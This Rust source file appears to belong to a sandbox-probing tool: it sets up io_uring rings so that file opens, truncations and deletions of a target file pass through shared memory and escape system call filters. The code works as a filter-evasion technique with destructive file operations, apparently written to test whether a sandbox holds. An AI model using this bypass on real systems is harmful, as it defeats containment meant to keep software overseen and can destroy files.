//! Work handed to the kernel through shared memory, which no system call filter sees.

use nix::errno::Errno;

use super::call::{address, call, structure};
use super::files::{contents, pipe, write};
use super::{Outcome, Prey};

const BOTH: i32 = libc::PROT_READ | libc::PROT_WRITE;
/// The size of a request.
const REQUEST: usize = 64;

/// A ring of requests, and where its parts lie in the attacker's memory.
struct Ring {
    descriptor: i64,
    tail: i64,
    array: i64,
    requests: i64,
    results: i64,
}

impl Ring {
    fn new() -> Result<Self, Errno> {
        let mut parameters = [0u8; 120];
        let descriptor = call!(libc::SYS_io_uring_setup, 4, &mut parameters[..])?;
        let offset = |at: usize| {
            let bytes = parameters
                .get(at..at + 4)
                .and_then(|bytes| bytes.try_into().ok());
            i64::from(u32::from_ne_bytes(bytes.unwrap_or_default()))
        };
        let map = |at: i64| {
            let shared = libc::MAP_SHARED;
            call!(libc::SYS_mmap, 0, 4096, BOTH, shared, descriptor, at)
        };
        let (submissions, completions) = (map(0)?, map(0x800_0000)?);
        Ok(Self {
            descriptor,
            // Offsets in io_uring_params: those of submissions begin at 40, of completions at 80.
            tail: submissions + offset(44),
            array: submissions + offset(64),
            requests: map(0x1000_0000)?,
            results: completions + offset(100),
        })
    }

    /// Hands in one request and waits for its result.
    fn submit(&self, mut request: Vec<u8>) -> Result<i64, Errno> {
        request.resize(REQUEST, 0);
        poke(self.requests, &request)?;
        poke(self.array, &0u32.to_ne_bytes())?;
        poke(self.tail, &1u32.to_ne_bytes())?;
        call!(libc::SYS_io_uring_enter, self.descriptor, 1, 1, 1, 0, 0)?;
        // Behind the user's data.
        let result = peek(self.results + 8, 4)?;
        let result = i32::from_ne_bytes(result.try_into().unwrap_or([0xff; 4]));
        if result < 0 {
            return Err(Errno::from_raw(-result));
        }
        Ok(result.into())
    }
}

/// Lets the kernel write into the attacker's own memory, so that no pointer is needed for that.
fn poke(to: i64, bytes: &[u8]) -> Result<i64, Errno> {
    let (reader, writer) = pipe()?;
    write(writer, bytes)?;
    call!(
        libc::SYS_read,
        reader,
        to,
        i64::try_from(bytes.len()).unwrap_or(0)
    )
}

/// Lets the kernel read from the attacker's own memory.
fn peek(from: i64, length: i64) -> Outcome {
    let (reader, writer) = pipe()?;
    call!(libc::SYS_write, writer, from, length)?;
    call!(libc::SYS_close, writer)?;
    contents(reader)
}

const HERE: i32 = libc::AT_FDCWD;

/// `IORING_OP_OPENAT`
pub(crate) fn openat(prey: &Prey) -> Outcome {
    let path = address(prey.file.as_bytes_with_nul());
    contents(Ring::new()?.submit(structure![18u8, 0u8, 0u16, HERE, 0u64, path])?)
}

/// `IORING_OP_OPENAT`, for writing, and emptied
pub(crate) fn emptying(prey: &Prey) -> Outcome {
    let path = address(prey.file.as_bytes_with_nul());
    let flags = libc::O_WRONLY | libc::O_TRUNC;
    let request = structure![18u8, 0u8, 0u16, HERE, 0u64, path, 0u32, flags];
    super::done(Ring::new()?.submit(request))
}

/// `IORING_OP_UNLINKAT`
pub(crate) fn unlinking(prey: &Prey) -> Outcome {
    let path = address(prey.file.as_bytes_with_nul());
    super::done(Ring::new()?.submit(structure![36u8, 0u8, 0u16, HERE, 0u64, path]))
}

/// A ring, and nothing more
pub(crate) fn setup(_: &Prey) -> Outcome {
    super::done(Ring::new())
}
